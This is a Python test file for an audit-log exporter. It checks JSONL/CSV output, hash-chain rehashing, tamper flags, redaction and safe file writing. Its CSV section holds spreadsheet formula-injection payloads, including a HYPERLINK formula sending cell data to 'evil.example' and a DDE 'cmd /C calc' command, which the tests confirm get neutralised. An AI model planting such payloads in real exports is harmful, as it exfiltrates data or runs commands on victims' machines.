"""Audit export (JSONL/CSV, streamed) and signed checkpoints of the chain head, on the real database."""

from __future__ import annotations

import csv
import io
import json
import stat
import tracemalloc
from contextlib import aclosing
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from bot.audit import AuditEntry, AuditStore, TextCipher
from bot.audit.chain import GENESIS, record_hash
from bot.audit.export import (
    FIELDS,
    TEXT_FIELDS,
    TextProblems,
    csv_cell,
    export_rows,
    hash_input,
    open_output,
    parse_when,
    write_csv,
    write_jsonl,
)
from bot.db import Database
from bot.errors import ConfigurationError, InputError
from tests.db.audit_support import export_entry, exported_jsonl, raw_sql, version_1_records

pytestmark = pytest.mark.db


async def test_jsonl_round_trips_every_field(db: Database, audit: AuditStore) -> None:
    """Each line holds every field, in order, with the stored values; each row re-hashes to its hash."""
    ids = [await audit.append(export_entry(i)) for i in range(3)]
    rows = await exported_jsonl(audit)
    assert [1, 2, 3] == [r["seq"] for r in rows]
    assert ids == [r["id"] for r in rows]
    assert [list(FIELDS)] * 3 == [list(r) for r in rows]
    first, second = rows[0], rows[1]
    assert datetime.fromisoformat(str(first["created_at"])).utcoffset() == timedelta(0)
    assert str(first["created_at"]).endswith("+00:00")
    assert (True, False) == (first["allowed"], second["allowed"])
    assert ("C-ALL", None) == (first["channel_id"], second["channel_id"])
    assert (300, None) == (first["first_token_ms"], second["first_token_ms"])
    assert ["role:employee allows ask", "rule 0"] == first["rules"]
    assert [
        {
            "chunk_id": 0,
            "document_id": 10,
            "source": "handbook/経費精算.md",
            "acl": ["group:all-staff"],
            "classification": "internal",
            "score": 0.8123,
        }
    ] == first["retrieved"]
    assert GENESIS == first["prev_hash"]
    assert [r["hash"] for r in rows[:-1]] == [r["prev_hash"] for r in rows[1:]]
    for row in rows:
        assert row["hash"] == record_hash(hash_input(row), str(row["prev_hash"]))
    async with db.engine.connect() as conn:
        stored = (await conn.execute(text("SELECT key_id, answer_sha256 FROM audit_records WHERE seq = 1"))).one()
    assert (stored.key_id, stored.answer_sha256) == (first["key_id"], first["answer_sha256"])


async def test_csv_has_one_header_and_json_cells(audit: AuditStore) -> None:
    """CSV: the header is FIELDS; lists as JSON, booleans true/false, null empty; values survive."""
    for i in range(2):
        await audit.append(export_entry(i))
    jsonl = await exported_jsonl(audit)
    out = io.StringIO(newline="")
    async with aclosing(export_rows(audit)) as rows:
        assert 2 == await write_csv(rows, out)
    reader = csv.reader(io.StringIO(out.getvalue(), newline=""))
    header, *lines = list(reader)
    assert list(FIELDS) == header
    assert 2 == len(lines)
    cells = [dict(zip(header, line, strict=True)) for line in lines]
    assert ("true", "false") == (cells[0]["allowed"], cells[1]["allowed"])
    assert "" == cells[1]["channel_id"]
    assert "" == cells[1]["first_token_ms"]
    for cell, row in zip(cells, jsonl, strict=True):
        assert row["rules"] == json.loads(cell["rules"])
        assert row["retrieved"] == json.loads(cell["retrieved"])
        assert str(row["seq"]) == cell["seq"]
        assert row["hash"] == cell["hash"]
        assert row["created_at"] == cell["created_at"]
    assert "handbook/経費精算.md" in out.getvalue()  # UTF-8 as is, not \\u escapes


async def test_since_and_until_filter_on_created_at(db: Database, audit: AuditStore, dba: AsyncEngine) -> None:
    """``since`` is inclusive, ``until`` exclusive; naive times are UTC; offsets are honoured."""
    for i in range(3):
        await audit.append(export_entry(i))
    for seq, when in ((1, "2025-01-01 00:00:00+00"), (2, "2025-06-01 00:00:00+00"), (3, "2026-01-01 00:00:00+00")):
        await raw_sql(dba, f"UPDATE audit_records SET created_at = '{when}' WHERE seq = {seq}")

    async def seqs(**options: object) -> list[object]:
        return [r["seq"] for r in await exported_jsonl(audit, **options)]

    assert [2, 3] == await seqs(since=parse_when("2025-06-01", "--since"))
    assert [1, 2] == await seqs(until=parse_when("2026-01-01", "--until"))
    assert [2] == await seqs(since=parse_when("2025-02-01T00:00:00", "--since"), until=parse_when("2025-12-31", "--u"))
    # 09:00 in Tokyo on 2025-06-01 is midnight UTC: record 2 is included.
    assert [2, 3] == await seqs(since=parse_when("2025-06-01T09:00:00+09:00", "--since"))
    assert [3] == await seqs(since=parse_when("2025-06-01T09:00:01+09:00", "--since"))
    assert [] == await seqs(since=parse_when("2030-01-01", "--since"))


def test_parse_when_accepts_iso_and_rejects_the_rest() -> None:
    """Dates and datetimes; a missing offset means UTC; anything else is an InputError."""
    assert datetime(2026, 1, 31, tzinfo=UTC) == parse_when("2026-01-31", "--since")
    assert datetime(2026, 1, 31, 9, 30, tzinfo=UTC) == parse_when("2026-01-31T09:30:00Z", "--since")
    jst = timezone(timedelta(hours=9))
    assert datetime(2026, 1, 31, 9, tzinfo=jst) == parse_when("2026-01-31T09:00+09:00", "--since")
    for bad in ("yesterday", "2026-13-01", "", "31/01/2026"):
        with pytest.raises(InputError, match=r"--since .*: not an ISO date"):
            parse_when(bad, "--since")


async def test_text_is_exported_only_when_asked_and_decrypted(audit: AuditStore) -> None:
    """No question/answer without include_text; with it, the original text in both formats."""
    for i in range(2):
        await audit.append(export_entry(i))
    plain = await exported_jsonl(audit)
    assert all(not set(TEXT_FIELDS) & set(r) for r in plain)
    assert "経費精算の締め日は" not in json.dumps(plain, ensure_ascii=False)

    with_text = await exported_jsonl(audit, include_text=True)
    assert [*FIELDS, *TEXT_FIELDS] == list(with_text[0])
    assert [export_entry(i).question for i in range(2)] == [r["question"] for r in with_text]
    assert [export_entry(i).answer for i in range(2)] == [r["answer"] for r in with_text]

    out = io.StringIO(newline="")
    async with aclosing(export_rows(audit, include_text=True)) as rows:
        await write_csv(rows, out, [*FIELDS, *TEXT_FIELDS])
    cells = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [export_entry(i).answer for i in range(2)] == [c["answer"] for c in cells]  # newline inside a cell


async def test_text_under_another_key_is_a_configuration_error(db: Database, audit: AuditStore, tmp_path: Path) -> None:
    """A record encrypted under a key other than the configured one stops the export with a reason."""
    await audit.append(export_entry(0))
    other = AuditStore(db.sessions, TextCipher.from_file(tmp_path / "other.key", create=True))
    with pytest.raises(ConfigurationError, match="record 1: its text does not decrypt"):
        await exported_jsonl(other, include_text=True)
    assert 1 == len(await exported_jsonl(other))  # without text the key does not matter


class _Sink(io.StringIO):
    """Counts what is written and keeps none of it, so only the export's own memory is measured."""

    def __init__(self) -> None:
        self.chars = 0

    def write(self, s: str) -> int:
        self.chars += len(s)
        return len(s)


async def test_export_of_3000_records_streams_in_constant_memory(db: Database, audit: AuditStore) -> None:
    """3,000 records through a 100-row cursor: all of them, in order, with a small memory peak.

    Measured on the development machine: about 0.9 MB streaming 100 rows at a time, 13.6 MB when
    all 3,000 records are fetched at once; the bound sits between them, far from both.
    """
    async with db.sessions.begin() as session:
        for i in range(3000):
            await audit.append(export_entry(i), session=session)
    out = io.StringIO()
    async with aclosing(export_rows(audit, include_text=True, batch=100)) as rows:
        assert 3000 == await write_jsonl(rows, out)
    assert list(range(1, 3001)) == [json.loads(line)["seq"] for line in out.getvalue().splitlines()]

    sink = _Sink()
    tracemalloc.start()
    try:
        async with aclosing(export_rows(audit, include_text=True, batch=100)) as rows:
            await write_jsonl(rows, sink)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(out.getvalue()) == sink.chars
    assert peak < 5 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"


async def test_stopping_early_releases_the_cursor(audit: AuditStore) -> None:
    """Closing the generator after one row closes the cursor; the store keeps working."""
    for i in range(5):
        await audit.append(export_entry(i))
    async with aclosing(export_rows(audit, batch=2)) as rows:
        async for row in rows:
            assert 1 == row["seq"]
            break
    assert (True, 5) == ((r := await audit.verify()).ok, r.records)


def test_output_file_is_private_and_written_whole(tmp_path: Path) -> None:
    """A file appears only complete (mode 0600); a failure leaves neither it nor its .part."""
    target = tmp_path / "audit.jsonl"
    with open_output(target) as out:
        out.write("{}\n")
        assert not target.exists()
    assert "{}\n" == target.read_text(encoding="utf-8")
    assert 0o600 == stat.S_IMODE(target.stat().st_mode)

    def fail_halfway(path: Path) -> None:
        with open_output(path) as out:
            out.write("half")
            raise RuntimeError("database went away")

    with pytest.raises(RuntimeError):
        fail_halfway(tmp_path / "failed.jsonl")
    assert [] == sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("failed"))
    with pytest.raises(InputError, match="cannot write"):
        open_output(tmp_path / "missing" / "x.csv").__enter__()


async def test_exported_text_can_be_redacted(audit: AuditStore) -> None:
    """With redaction on, personal data in questions and answers does not leave in the export."""
    entry = export_entry(0)
    await audit.append(
        AuditEntry(**{**entry.__dict__, "question": "私のメールは taro@example.co.jp、電話は 090-1234-5678 です"})
    )
    plain = await exported_jsonl(audit, include_text=True)
    redacted = await exported_jsonl(audit, include_text=True, redact_text=True)
    assert "taro@example.co.jp" in str(plain[0]["question"])
    assert "taro@example.co.jp" not in str(redacted[0]["question"])
    assert "090-1234-5678" not in str(redacted[0]["question"])
    assert plain[0]["hash"] == redacted[0]["hash"]


# --- exported text is checked against its hash -------------------------------------------------


async def _checked(audit: AuditStore, **options: object) -> tuple[list[dict[str, object]], TextProblems]:
    problems = TextProblems()
    rows = await exported_jsonl(audit, include_text=True, problems=problems, **options)
    return rows, problems


async def test_exported_text_that_matches_its_hash_is_ok(audit: AuditStore, dba: AsyncEngine) -> None:
    """Every row says ``text_check``: ok while the text is held and matches, purged once retention
    removed it (the answer only removed: still ok); nothing is reported."""
    for i in range(3):
        await audit.append(export_entry(i))
    await raw_sql(dba, "UPDATE audit_records SET question_enc = NULL, answer_enc = NULL WHERE seq = 2")
    await raw_sql(dba, "UPDATE audit_records SET answer_enc = NULL WHERE seq = 3")
    rows, problems = await _checked(audit)
    assert ["ok", "purged", "ok"] == [r["text_check"] for r in rows]
    assert (None, None) == (rows[1]["question"], rows[1]["answer"])
    assert (export_entry(2).question, None) == (rows[2]["question"], rows[2]["answer"])
    assert 0 == problems.count


async def test_text_altered_by_someone_holding_the_key_is_flagged(
    db: Database, audit: AuditStore, dba: AsyncEngine, tmp_path: Path
) -> None:
    """Someone with the database and the audit key re-encrypts other text into a record (correctly
    bound, so it decrypts): the export still shows it, flagged ``mismatch``, and reports the record."""
    for i in range(3):
        await audit.append(export_entry(i))
    cipher = TextCipher.from_file(tmp_path / "audit.key")
    async with db.engine.connect() as conn:
        record_id = (await conn.execute(text("SELECT id FROM audit_records WHERE seq = 2"))).scalar_one()
    forged = cipher.encrypt("経費精算の締め日は月末です", record_id, "answer")
    async with dba.begin() as conn:
        await conn.execute(text("SET LOCAL session_replication_role = replica"))
        await conn.execute(text("UPDATE audit_records SET answer_enc = :b WHERE seq = 2"), {"b": forged})
    assert (await audit.verify()).ok  # the chain covers the text's sha256, not its ciphertext
    rows, problems = await _checked(audit)
    assert ["ok", "mismatch", "ok"] == [r["text_check"] for r in rows]
    assert "経費精算の締め日は月末です" == rows[1]["answer"]
    assert 1 == problems.count
    assert [(2, "its answer does not match the sha256 the chain holds: altered")] == problems.first
    # Redaction changes what is shown, not what is checked.
    redacted, again = await _checked(audit, redact_text=True)
    assert ["ok", "mismatch", "ok"] == [r["text_check"] for r in redacted]
    assert 1 == again.count


async def test_swapped_text_is_flagged_in_old_and_new_records(
    audit: AuditStore, dba: AsyncEngine, tmp_path: Path
) -> None:
    """Question and answer ciphertexts swapped by the owner: a version 1 record (text bound to the
    record only) still decrypts, to the wrong text, and is caught by its hash (``mismatch``); a
    version 2 record does not decrypt at all (``undecryptable``). The export goes on past both."""
    await version_1_records(dba, (tmp_path / "audit.key").read_bytes(), 2)
    await audit.append(export_entry(3))
    await audit.append(export_entry(4))
    await raw_sql(
        dba, "UPDATE audit_records SET question_enc = answer_enc, answer_enc = question_enc WHERE seq IN (1, 3)"
    )
    rows, problems = await _checked(audit)
    assert [1, 1, 2, 2] == [r["chain_version"] for r in rows]
    assert ["mismatch", "ok", "undecryptable", "ok"] == [r["text_check"] for r in rows]
    assert ("旧い答え 1", "旧い質問 1") == (rows[0]["question"], rows[0]["answer"])
    assert (None, None) == (rows[2]["question"], rows[2]["answer"])
    assert [1, 3] == [seq for seq, _ in problems.first]
    assert "its question does not decrypt under its own key" in problems.first[1][1]


async def test_rows_of_both_chain_versions_rehash(audit: AuditStore, dba: AsyncEngine, tmp_path: Path) -> None:
    """A SIEM re-hashes every exported row from its own fields and chain_version, old and new."""
    await version_1_records(dba, (tmp_path / "audit.key").read_bytes(), 2)
    await audit.append(export_entry(3))
    rows = await exported_jsonl(audit)
    assert [1, 1, 2] == [r["chain_version"] for r in rows]
    assert "key_id" not in hash_input(rows[0])
    assert "key_id" in hash_input(rows[2])
    for row in rows:
        assert row["hash"] == record_hash(hash_input(row), str(row["prev_hash"]), int(str(row["chain_version"])))
    # A version no code knows is exported as it is (verification names the record), not a crash.
    await raw_sql(dba, "UPDATE audit_records SET chain_version = 7 WHERE seq = 3")
    assert 7 == (await exported_jsonl(audit, include_text=True))[2]["chain_version"]


# --- CSV cells a spreadsheet would run ---------------------------------------------------------------

_FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",  # ideographic space first
    "\n=1+1",
    "＝1+1",  # full-width
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",  # small form
    "﹢1",
    "﹣1",
    "\t",
]


@pytest.mark.parametrize("value", _FORMULAS)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(value: str) -> None:
    """A cell that starts with = + - @ (after any whitespace, in any width) or with a tab or carriage
    return gets a leading ' so a spreadsheet shows it as text."""
    assert "'" + value == csv_cell(value)


@pytest.mark.parametrize("value", ["a=b", "経費精算", "1-2", "", " ", "'=already", "メール@example"])
def test_ordinary_csv_cells_are_left_alone(value: str) -> None:
    """Nothing else changes; numbers, booleans and JSON cells are written as they are."""
    assert value == csv_cell(value)
    assert ("-1", "true", '["=x"]') == (csv_cell(-1), csv_cell(True), csv_cell(["=x"]))


async def test_csv_export_neutralises_formulas_in_every_text_column(audit: AuditStore) -> None:
    """A question, answer, email or channel that starts a formula arrives in the CSV prefixed; JSONL
    keeps the exact value."""
    evil = '=HYPERLINK("http://evil.example/?"&B2,"here")'
    await audit.append(
        AuditEntry(
            **{
                **export_entry(0).__dict__,
                "question": evil,
                "answer": "＋cmd|' /C calc'!A0",
                "channel_id": "@C1",
                "user_ref": "-U1",
            }
        )
    )
    out = io.StringIO(newline="")
    async with aclosing(export_rows(audit, include_text=True)) as rows:
        await write_csv(rows, out, [*FIELDS, *TEXT_FIELDS])
    cell = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert ("'" + evil, "'＋cmd|' /C calc'!A0", "'@C1", "'-U1") == (
        cell["question"],
        cell["answer"],
        cell["channel_id"],
        cell["user_ref"],
    )
    assert evil == (await exported_jsonl(audit, include_text=True))[0]["question"]


# --- the output file: no planted link is followed --------------------------------------------------


def test_a_link_planted_at_the_temporary_name_is_not_followed(tmp_path: Path) -> None:
    """Someone who can write the export's folder plants links at the old predictable temporary name
    and at the target itself, pointing at a file they want overwritten (or read): the export writes
    only a new file of its own, replaces the link at the target, and leaves the victim untouched."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n", encoding="utf-8")
    target = tmp_path / "audit.jsonl"
    (tmp_path / "audit.jsonl.part").symlink_to(victim)
    with open_output(target) as out:
        out.write('{"seq":1}\n')
    assert "precious\n" == victim.read_text(encoding="utf-8")
    assert not target.is_symlink()
    assert '{"seq":1}\n' == target.read_text(encoding="utf-8")
    assert 0o600 == stat.S_IMODE(target.stat().st_mode)

    second = tmp_path / "second.csv"
    second.symlink_to(victim)
    with open_output(second) as out:
        out.write("seq\n")
    assert "precious\n" == victim.read_text(encoding="utf-8")
    assert (False, "seq\n") == (second.is_symlink(), second.read_text(encoding="utf-8"))
    leftovers = sorted(p.name for p in tmp_path.iterdir())
    assert ["audit.jsonl", "audit.jsonl.part", "second.csv", "victim.txt"] == leftovers
